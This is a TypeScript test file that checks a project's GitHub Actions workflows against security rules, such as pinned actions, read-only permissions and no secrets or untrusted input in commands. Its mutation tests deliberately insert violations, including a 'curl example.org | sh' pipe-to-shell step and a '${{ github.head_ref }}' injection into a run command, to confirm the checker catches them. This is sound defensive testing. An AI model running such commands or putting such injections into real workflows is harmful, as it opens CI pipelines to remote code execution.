import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { tracks } from '#core/tracks.ts';
import { read, root } from './tree.ts';

interface Step {
  readonly uses?: string;
  readonly run?: string;
  readonly with?: Readonly<Record<string, unknown>>;
}
interface Job {
  readonly 'runs-on': string | readonly string[];
  readonly 'timeout-minutes'?: number;
  readonly permissions?: Readonly<Record<string, string>>;
  readonly environment?: unknown;
  readonly steps: readonly Step[];
}
interface Workflow {
  readonly on: Readonly<Record<string, unknown>>;
  readonly permissions?: Readonly<Record<string, string>>;
  readonly concurrency?: unknown;
  readonly jobs: Readonly<Record<string, Job>>;
}

const folder = '.github/workflows';
const names = readdirSync(join(root, folder)).sort();
const scripts: Readonly<Record<string, string>> = JSON.parse(read('package.json')).scripts;

/** What a job may write, beyond the contents: read that every workflow starts from. */
const mayWrite: Readonly<Record<string, readonly string[]>> = { 'site.yml deploy': ['id-token', 'pages'] };

/** Commands that a step may consist of: each runs on anybody's machine as it stands. */
const command = /^(npm ci|npm test|npm run (-s )?([\w:-]+)( -- .*)?|\.ci\/run)$/;

test('the workflows are those that are described', () => {
  expect(names).toEqual(['check.yml', 'evaluate.yml', 'site.yml', 'validate.yml']);
});

/** What breaks a rule in the text of a workflow. */
function problems(name: string, text: string): string[] {
  const workflow = parse(text) as Workflow;
  const found: string[] = [];
  const report = (bad: boolean, message: string) => {
    if (bad) found.push(message);
  };
  for (const event of ['pull_request_target', 'workflow_run', 'issue_comment']) {
    report(event in workflow.on, `${event} hands a stranger's pull request the rights of the project`);
  }
  report(JSON.stringify(workflow.permissions) !== '{"contents":"read"}', 'permissions are not contents: read');
  report(workflow.concurrency === undefined, 'no concurrency group');
  report(/\bsecrets\b/.test(text.replace(/#.*/g, '')), 'a secret is within reach');
  for (const line of text.split('\n').filter((line) => /^\s*(- )?uses:/.test(line))) {
    report(!/uses: [\w-]+\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line), `not pinned to a commit: ${line.trim()}`);
  }
  for (const [id, job] of Object.entries(workflow.jobs)) found.push(...jobProblems(`${name} ${id}`, job, workflow));
  return found;
}

function jobProblems(name: string, job: Job, workflow: Workflow): string[] {
  const found: string[] = [];
  if (job['timeout-minutes'] === undefined) found.push(`${name}: no timeout`);
  const writes = Object.entries(job.permissions ?? {}).filter(([, right]) => right !== 'read');
  const extra = writes.filter(([what]) => !mayWrite[name]?.includes(what));
  if (extra.length > 0) found.push(`${name}: may write ${extra.map(([what]) => what).join(', ')}`);
  if ([job['runs-on']].flat().includes('self-hosted')) {
    if (Object.keys(workflow.on).join() !== 'workflow_dispatch') found.push(`${name}: our machine, started by others`);
    if (job.environment === undefined) found.push(`${name}: our machine, without anybody's approval`);
  }
  for (const { uses, run, with: inputs } of job.steps) {
    if (uses?.startsWith('actions/checkout@') && inputs?.['persist-credentials'] !== false) {
      found.push(`${name}: the checkout leaves a token behind`);
    }
    for (const line of run?.trim().split('\n') ?? []) {
      const script = command.exec(line)?.[3];
      if (line.includes('${{')) found.push(`${name}: text of others in a command: ${line}`);
      else if (!command.test(line)) found.push(`${name}: not a command of the project: ${line}`);
      else if (script !== undefined && !(script in scripts)) found.push(`${name}: there is no npm script ${script}`);
    }
  }
  return found;
}

test.each(names)('%s keeps to the rules', (name) => {
  expect(problems(name, read(`${folder}/${name}`))).toEqual([]);
});

describe('a broken rule is found', () => {
  const good = read(`${folder}/check.yml`);
  const broken: readonly [rule: string, from: string | RegExp, to: string][] = [
    ['a tag in place of a commit', /checkout@[0-9a-f]{40} # v[\d.]+/, 'checkout@v7'],
    ['a short commit', /checkout@[0-9a-f]{40}/, 'checkout@3d3c42e'],
    ['a commit without its version', / # v[\d.]+/, ''],
    ['no permissions', /permissions:\n {2}contents: read\n/, ''],
    ['too many permissions', 'contents: read', 'contents: write'],
    ['permissions of a job', 'timeout-minutes: 40', 'timeout-minutes: 40\n    permissions: { issues: write }'],
    ['an event with the rights of the project', '  pull_request:', '  pull_request_target:'],
    ['text of others in a command', 'run: .ci/run', `run: npm run -s parapet -- \${{ github.head_ref }}`],
    ['a command that is not ours', 'run: .ci/run', 'run: curl example.org | sh'],
    ['a command behind ours', 'run: npm ci', 'run: npm ci && true'],
    ['a script that is not there', 'run: npm test', 'run: npm run no-such-script'],
    ['a secret', 'run: npm ci', `run: npm ci\n        env: { A: '\${{ secrets.A }}' }`],
    ['no timeout', '    timeout-minutes: 40\n', ''],
    ['no concurrency group', /concurrency:\n(?: .*\n)+/, ''],
    ['a token left behind', 'persist-credentials: false', 'persist-credentials: true'],
    ['our machine, started by anybody', 'runs-on: ubuntu-24.04', 'runs-on: [self-hosted, cuda]'],
  ];
  test.each(broken)('%s', (_rule, from, to) => {
    const bad = good.replace(from, to);
    expect(bad).not.toBe(good);
    expect(problems('check.yml', bad)).not.toEqual([]);
  });
});

test('evaluate.yml offers the tracks that there are', () => {
  const workflow = parse(read(`${folder}/evaluate.yml`));
  expect(workflow.on.workflow_dispatch.inputs.track.options).toEqual(tracks.map((track) => track.id));
});

describe('the issue forms', () => {
  const forms = readdirSync(join(root, '.github/ISSUE_TEMPLATE')).filter((name) => name !== 'config.yml');
  test.each(forms)('%s has what GitHub needs to show it', (name) => {
    const form = parse(read(`.github/ISSUE_TEMPLATE/${name}`));
    expect(form).toMatchObject({ name: expect.any(String), description: expect.any(String), body: expect.any(Array) });
    const fields = form.body.filter((field: { type: string }) => field.type !== 'markdown');
    const ids = fields.map((field: { id: string }) => field.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const field of fields) {
      expect(field).toMatchObject({
        id: expect.stringMatching(/^[a-z-]+$/),
        attributes: { label: expect.any(String) },
      });
      expect(field.type).toMatch(/^(input|textarea|dropdown|checkboxes)$/);
    }
  });
});
